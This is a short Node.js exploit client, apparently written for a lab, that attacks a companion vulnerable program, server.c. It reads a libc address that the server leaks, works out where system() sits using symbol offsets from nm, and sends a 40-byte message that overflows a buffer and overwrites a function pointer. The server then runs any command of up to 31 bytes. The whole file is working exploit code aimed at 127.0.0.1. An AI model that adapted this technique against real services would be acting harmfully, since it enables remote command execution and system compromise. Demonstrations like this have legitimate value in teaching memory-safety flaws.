// `node attack.js PORT COMMAND`: the client that hijacks server.c. It writes over the pointer to the greeting with the address of
// system(3), so that the server runs COMMAND (of at most 31 bytes). Where system stands follows from the address that the
// server tells, and from the C library's table of symbols (nm, of Debian's binutils).

import { execFileSync } from 'node:child_process';
import { connect } from 'node:net';

const [, , port, command] = process.argv;
const table = execFileSync('nm', ['-D', '/lib/x86_64-linux-gnu/libc.so.6'], {
  encoding: 'utf8',
  maxBuffer: 1e8,
});
const offsetOf = (name) => BigInt(`0x${new RegExp(`^([0-9a-f]+) . ${name}@@`, 'm').exec(table)[1]}`);

const socket = connect(Number(port), '127.0.0.1');
socket.once('data', (greeting) => {
  const [address] = /0x[0-9a-f]+/.exec(greeting.toString());
  const message = Buffer.alloc(40);
  message.write(command.slice(0, 31), 'latin1');
  message.writeBigUInt64LE(BigInt(address) - offsetOf('listen') + offsetOf('system'), 32);
  socket.write(message);
});
socket.on('data', () => {});
socket.on('error', () => {});
